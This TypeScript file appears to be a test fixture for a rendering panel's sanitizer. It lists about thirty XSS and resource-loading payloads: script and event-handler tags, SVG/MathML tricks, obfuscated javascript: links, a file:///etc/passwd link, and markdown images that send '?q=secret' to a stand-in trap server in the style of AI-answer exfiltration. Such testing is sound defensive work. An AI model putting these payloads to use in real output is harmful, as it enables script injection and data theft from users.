/**
 * Answers that try to run a script in the panel, or to make it load something. `trap` is the origin of a server
 * that must hear nothing. Shapes from the published corpora: HTML in markdown, schemes, entities, reference-style
 * images (CVE-2025-32711), autolinks, SVG and MathML.
 */
export const hostileAnswers = (trap: string): readonly string[] => {
  const run = 'globalThis.ran=1';
  return [
    `<script>${run}</script><script src="${trap}/script.js"></script>`,
    `<img src=x onerror="${run}"><img src="${trap}/img-tag.png" onload="${run}">`,
    `<svg onload="${run}"><image href="${trap}/svg.png"/><use href="${trap}/use.svg#a"/></svg>`,
    `<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<link rel="stylesheet" href="${trap}/style.css"><style>@import "${trap}/import.css"; body{background:url(${trap}/bg.png)}</style>`,
    `<object data="${trap}/object"></object><embed src="${trap}/embed"><base href="${trap}/">`,
    `<meta http-equiv="refresh" content="0;url=${trap}/refresh"><form action="${trap}/form"><input autofocus onfocus="${run}"></form>`,
    `<video src="${trap}/video.mp4" autoplay></video><audio src="${trap}/audio.mp3" autoplay onerror="${run}"></audio>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<details open ontoggle="${run}">x</details><a href="javascript:${run}">html link</a>`,
    `![words](${trap}/inline.png?q=secret)`,
    `![words][ref]\n\n[ref]: ${trap}/reference.png?q=secret "title"`,
    `[![linked](${trap}/linked.png)](${trap}/never-clicked)`,
    `![nested ![image](${trap}/nested.png)](${trap}/outer.png)`,
    `![](<${trap}/angle.png>) ![x](${trap}/paren(1).png 'title')`,
    `[click](javascript:${run}) [click](JaVaScRiPt:${run}) [click](java\nscript:${run}) [click](&#106;avascript:${run})`,
    `[click](vbscript:x) [click](data:text/html,<script>${run}</script>) [click](blob:${trap}/1) [click](file:///etc/passwd)`,
    `[click](chrome-extension://abcdefghijklmnop/options.html) [click](chrome://settings) <javascript:${run}>`,
    `[prototype](constructor) [proto][__proto__]\n\n[__proto__]: javascript:${run}`,
    `| a | b |\n| --- | --- |\n| ![cell](${trap}/cell.png) | <img src="${trap}/cell-html.png"> |`,
    `- [ ] ![task](${trap}/task.png)\n- [x] <img src=x onerror="${run}">`,
    `> ![quoted](${trap}/quoted.png)\n\n# ![head](${trap}/head.png)`,
    `\`\`\`html\n<img src="${trap}/code.png" onerror="${run}">\n\`\`\`\n\`<img src=x onerror="${run}">\``,
    `\`\`\`"><img src=x onerror=${run}>\nlanguage\n\`\`\``,
    `${trap}/bare-address <${trap}/auto-link> www.example.org mail@example.org`,
    `$$\\href{javascript:${run}}{x} \\includegraphics{${trap}/math.png}$$`,
    `&lt;img src=x onerror="${run}"&gt; &#60;script&#62;${run}&#60;/script&#62;`,
    `<!--><img src=x onerror="${run}">--> <![CDATA[<img src="${trap}/cdata.png">]]> <?php ${run} ?>`,
    `[x](${trap}/never-clicked" onmouseover="${run}) ![x" onerror="${run}](${trap}/attribute.png)`,
    `\u202eforced direction\u202c <img\u2028src="${trap}/separator.png"\u2029onerror="${run}">`,
  ];
};
